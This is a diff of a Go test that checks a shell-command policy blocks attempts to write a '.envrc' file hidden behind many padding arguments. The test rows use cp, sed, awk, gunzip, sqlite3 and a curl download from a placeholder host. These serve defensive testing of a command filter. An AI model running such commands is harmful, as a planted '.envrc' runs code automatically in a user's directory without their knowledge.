@@ -162,12 +162,18 @@ func TestNoFileIsHiddenBehindOthers(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, row := range []struct{ begin, piece, end string }{
-		{"cp", " a", " x/.envrc ."}, {"cp", " a#", " x/.envrc ."},
-		{"sed", " -e 's/a/b/w a'", " -e 's/a/b/w .envrc' x"}, {"sed", " -e 's/a/b/w a#'", " -e 's/a/b/w .envrc' x"},
-		{"awk '", `{print > "a"} `, `{print > ".envrc"}'`}, {"awk '", `{print > "a#"} `, `{print > ".envrc"}'`},
-		{"gunzip", " a", " .envrc.gz"}, {"gunzip", " a#", " .envrc.gz"},
-		{"sqlite3 x '", ".output a\n", ".output .envrc'"}, {"sqlite3 x '", ".output a#\n", ".output .envrc'"},
-		{"curl -O https://h.example/.envrc", " https://h.example/a", ""}, {"curl -O", " https://h.example/a#", " https://h.example/.envrc"},
+		{"cp", " a", " x/.envrc ."},
+		{"cp", " a#", " x/.envrc ."},
+		{"sed", " -e 's/a/b/w a'", " -e 's/a/b/w .envrc' x"},
+		{"sed", " -e 's/a/b/w a#'", " -e 's/a/b/w .envrc' x"},
+		{"awk '", `{print > "a"} `, `{print > ".envrc"}'`},
+		{"awk '", `{print > "a#"} `, `{print > ".envrc"}'`},
+		{"gunzip", " a", " .envrc.gz"},
+		{"gunzip", " a#", " .envrc.gz"},
+		{"sqlite3 x '", ".output a\n", ".output .envrc'"},
+		{"sqlite3 x '", ".output a#\n", ".output .envrc'"},
+		{"curl -O https://h.example/.envrc", " https://h.example/a", ""},
+		{"curl -O", " https://h.example/a#", " https://h.example/.envrc"},
 	} {
 		text := hostile(row.begin, row.piece, row.end, len(row.begin)+len(row.end)+320*(len(row.piece)+2))
 		if d := p.Decide(s, shellCall(text)); d.Outcome.Allowed() {
